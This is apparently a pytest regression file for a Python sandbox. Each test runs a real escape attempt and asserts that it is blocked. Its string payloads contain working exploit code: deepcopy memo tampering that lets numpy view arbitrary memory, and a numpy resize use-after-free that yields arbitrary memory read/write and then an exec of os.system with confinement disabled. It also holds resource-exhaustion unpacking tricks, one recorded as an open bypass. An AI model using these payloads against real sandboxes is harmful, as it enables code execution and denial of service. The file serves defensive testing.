"""Must-block, twelfth round: copy.deepcopy's memo, and neighbours of earlier escapes.

Every test performs the real attack and asserts that it failed and that nothing happened. Tests of
findings that are not fixed are strict xfails whose reason says how the bypass works. Attacks that can
corrupt memory or hold the process past its limits run in a child process.
"""
from __future__ import annotations

import pytest

from childcell import run_cell_in_child
from rawview import assert_no_full_escape, assert_no_raw_view


# --- 1. deepcopy's memo is the cell's: it maps a library object's state keys to '__array_interface__' ------
# _guard_copy checks the top-level copy and the pairs it finds in memo[id(memo)], deepcopy's keep-alive
# list. Both are the cell's: memo[id(memo)] = Sink() (append does nothing, iterates empty) hides every
# nested copy from the check, and memo entries keyed by id() replace what deepcopy returns for any
# object: the interned key 'skipkeys' of a JSONEncoder's __dict__ becomes '__array_interface__' and
# False becomes the cell's interface dict. deepcopy([enc], memo)[0] is a JSONEncoder whose __dict__
# holds the raw protocol; np.asarray views any address, writable.

RAW_VIEW = """\
import copy, json, math, numpy as np
class Sink:
    def append(self, x):
        pass
    def __iter__(self):
        return iter(())
def view(addr, n):
    iface = {'shape': (n,), 'typestr': '<u8', 'data': (addr, False), 'version': 3}
    memo = {}
    memo[id(memo)] = Sink()
    memo[id('skipkeys')] = '__array_interface__'
    memo[id(False)] = iface
    return np.asarray(copy.deepcopy([json.JSONEncoder()], memo)[0])
made = False
try:
    t = view(id(math.tau) + 16, 1)
    made = t.dtype == np.uint64
except Exception:
    pass
"""

# Was: R12-1 (full escape): copy.deepcopy(x, memo) with the cell's memo: memo[id(memo)] = a no-op sink hides
# nested copies from _guard_copy's pair check, and memo[id('skipkeys')] = '__array_interface__',
# memo[id(False)] = iface rewrite a JSONEncoder's state while it is deep-copied; np.asarray(copy[0]) views
# any address


def test_deepcopy_memo_does_not_plant_raw_protocols_in_library_instances():
    assert_no_raw_view(RAW_VIEW, "numpy viewed raw memory through a deep-copied library instance")


def test_deepcopy_memo_is_not_a_full_escape(tmp_path):
    assert_no_full_escape(RAW_VIEW, tmp_path)


# --- 2. the same without passing a memo: a cell __deepcopy__ earlier in the container gets deepcopy's memo --
# Forcing a fresh memo is not enough: copy.deepcopy([Evil(), enc]) calls Evil.__deepcopy__(memo) (the
# documented, allowed hook) before enc is copied, and it rewrites the memo the same way.

HOOK_VIEW = """\
import copy, json, math, numpy as np
class Sink:
    def append(self, x):
        pass
    def __iter__(self):
        return iter(())
made = False
iface = {'shape': (1,), 'typestr': '<u8', 'data': (id(math.tau) + 16, False), 'version': 3}
class Evil:
    def __deepcopy__(self, memo):
        memo[id(memo)] = Sink()
        memo[id('skipkeys')] = '__array_interface__'
        memo[id(False)] = iface
        return Evil()
try:
    t = np.asarray(copy.deepcopy([Evil(), json.JSONEncoder()])[1])
    made = t.dtype == np.uint64
except Exception:
    pass
"""

# Was: R12-2 (full escape): a cell class's __deepcopy__(memo) runs first in deepcopy([Evil(),
# json.JSONEncoder()]) and rewrites the shared memo (keep-alive list -> sink, id('skipkeys') ->
# '__array_interface__', id(False) -> iface): the encoder's copy carries the raw protocol and np.asarray
# views any address


def test_deepcopy_hook_cannot_rewrite_the_memo_of_a_library_copy():
    assert_no_raw_view(HOOK_VIEW, "numpy viewed raw memory through a deep-copied library instance")


# --- 3. starred targets below the top level are built in C uncharged ----------------------------------------
# R11-5 routes 'a, *b = it' and 'for a, *b in rows' through the sized gate, but only a starred target at
# the top of the target list. A nested one ('(a, *b), c = (it, 1)', the same in for/comprehension/with
# targets) and a match star capture ('case [a, *rest]' on a range) make C's UNPACK_EX consume the whole
# iterable into a list with no tick charged: a 1 s / 10**7-tick cell over range(2*10**8) ran 4-13 s and
# stopped only at RLIMIT_AS (MemoryError); at level none nothing bounds it but the machine's memory.

N = 3 * 10**6
NESTED_STARRED = {
    "nested_assign": f"(a, *b), c = (bytes({N}), 1)",
    "nested_list_target": f"[[a, *b]] = [bytes({N})]",
    "for_target": f"for (a, *b), c in [(bytes({N}), 1)]:\n    pass",
    "comprehension_target": f"x = [0 for (a, *b), c in [(bytes({N}), 1)]]",
    "with_target": f"import contextlib\nwith contextlib.nullcontext((bytes({N}), 1)) as ((a, *b), c):\n    pass",
    "match_star_capture": f"match range({N}):\n    case [a, *rest]:\n        pass",
}


_OPEN_STARRED = pytest.mark.xfail(strict=True, reason="BYPASS R12-3 (open, DoS): a match star capture unpacks the "
                                  "subject in C without the sized gate: uncharged")


@pytest.mark.parametrize("variant", [pytest.param(v, marks=_OPEN_STARRED) if v == "match_star_capture"
                                     else v for v in sorted(NESTED_STARRED)])
def test_nested_starred_targets_are_charged(variant):
    result = run_cell_in_child(NESTED_STARRED[variant], limits={"timeout": 5.0, "ticks": 10**6, "memory_mb": 1024},
                               timeout=60)
    assert result.get("ename") == "TickLimitExceeded", result


# --- 4. ndarray.resize(refcheck=False) leaves views dangling over freed storage (use after free) ------------
# resize() reallocates an array that owns its memory; refcheck=False skips numpy's "other references"
# check, so a view made before keeps pointing at the freed block. An object array allocated next lands
# in it: the int view now reads and writes its pointers (addrof/fakeobj). A fake bytearray spanning all
# memory, built inside a bytes object, is arbitrary read/write. No constructor is involved (the view
# predates the object array), so _forged_array never sees it; the strides refusal does not apply.

RESIZE_VIEW = """\
import numpy as np, math, json
made = False
try:
    a = np.zeros(1000, dtype=np.int64)
    v = a[:]
    a.resize((10**6,), refcheck=False)
    o = np.empty(1000, dtype=object)
    o[:] = None
    made = bool(v[0] == id(None))
except Exception:
    pass
if made:
    fake = (2**40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little') + (2**62).to_bytes(8, 'little') \\
        + (2**62).to_bytes(8, 'little') + bytes(24)
    v[1] = id(fake) + 32
    mem = o[1]
    def rd(x):
        return int.from_bytes(mem[x:x + 8], 'little')
    def wr(x, val):
        mem[x:x + 8] = val.to_bytes(8, 'little')
    class T:
        def __setitem__(self, i, val):
            wr(id(math.tau) + 16, val)
    t = T()
"""

RESIZE_ESCAPE = """\
if made:
    L = [None]
    b = rd(id(json.dumps) + 24)          # a Python function's func_builtins: the real builtins dict
    wr(b, rd(b) + 1000)
    wr(rd(id(L) + 24), b)
    L[0]['exec']("import sandbox_kernel.confine as c\\nc._FS.set(None)\\nimport os\\nos.system('echo PWNED > MARKER')", {})
"""

# Was: R12-4 (full escape): a = np.zeros(1000, int64); v = a[:]; a.resize(big, refcheck=False) frees a's old
# block under v; np.empty(1000, object) reuses it, so v reads/writes its pointers (addrof/fakeobj); a fake
# bytearray over all memory gives arbitrary read/write


def test_resize_without_refcheck_leaves_no_dangling_view():
    assert_no_raw_view(RESIZE_VIEW, "a dangling view read an object array's pointers")


def test_resize_without_refcheck_is_not_a_full_escape(tmp_path):
    assert_no_full_escape(RESIZE_VIEW, tmp_path, tail=RESIZE_ESCAPE)


def test_nested_starred_unpacking_keeps_python_semantics(run):
    r = run("(a, *b), c = ((1, 2, 3), 4); print(a, b, c)\n"
            "[[x, *y]] = [range(3)]; print(x, y)\n"
            "p, *q, r = range(5); print(p, q, r)\n"
            "for (m, *n), o in [((1, 2), 3)]:\n    print(m, n, o)\n"
            "print([(u, w) for (u, *w), z in [('ab', 1)]])\n"
            "a, (b, *c) = 1, iter([2, 3]); print(a, b, c)\n"
            "*h, (i, *j) = [0, 1, (2, 3)]; print(h, i, j)\n"
            "try:\n    (a, *b), c = (1, 2, 3)\nexcept ValueError:\n    print('ValueError')\n")
    assert r.ok, r
    assert r.stdout == ("1 [2, 3] 4\n0 [1, 2]\n0 [1, 2, 3] 4\n1 [2] 3\n[('a', ['b'])]\n1 2 [3]\n"
                        "[0, 1] 2 [3]\nValueError\n"), r
